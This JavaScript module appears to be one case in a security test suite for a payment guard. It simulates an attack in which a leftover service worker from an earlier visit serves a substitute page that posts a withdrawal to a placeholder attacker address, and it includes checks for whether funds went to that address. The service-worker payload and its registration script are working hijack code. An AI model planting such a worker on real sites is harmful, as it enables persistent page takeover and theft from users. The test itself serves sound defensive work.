// E13: an earlier visit left a service worker that answers for the page itself, without the guard in it.
import { names } from './logs.mjs';

export default {
  id: 'E13',
  title: 'a service worker of an earlier visit serves the page without its guard',
  source: 'persistence by the site own worker',
  level: 'out',
  why: 'where the document comes from a worker that was there before the guard was adopted, the guard is not in it: replace the worker at its own address, with one that unregisters or with the companion, before the guard is announced',
  leaves: true,
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: {
    routes: {
      '/earlier.html': () => ({
        text: `<!doctype html><script>navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
          .then(() => (location.href = '/run/page'))</script>`,
      }),
      '/sw.js': (a) => ({
        type: 'text/javascript',
        text: `self.addEventListener('install', () => self.skipWaiting());
          const page = \`<!doctype html><script>fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: '${a.EVIL}' }) })</script>\`;
          self.addEventListener('fetch', (event) => {
            if (event.request.mode === 'navigate')
              event.respondWith(new Response(page, { headers: { 'content-type': 'text/html' } }));
          });`,
      }),
    },
  },

  async attack() {
    window.leaving = true;
    if (document.readyState !== 'complete') await new Promise((resolve) => addEventListener('load', resolve));
    setTimeout(() => (location.href = '/earlier.html'), 50);
  },

  async action(a) {
    // What the page was about to do must not end the run.
    if (window.leaving) return new Promise(() => {});
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },

  stolen: ({ http, a }) => http.some(({ body }) => names(body, a.EVIL)),
  arrived: ({ http, a }) => http.some(({ body }) => names(body, a.GOOD)),
};
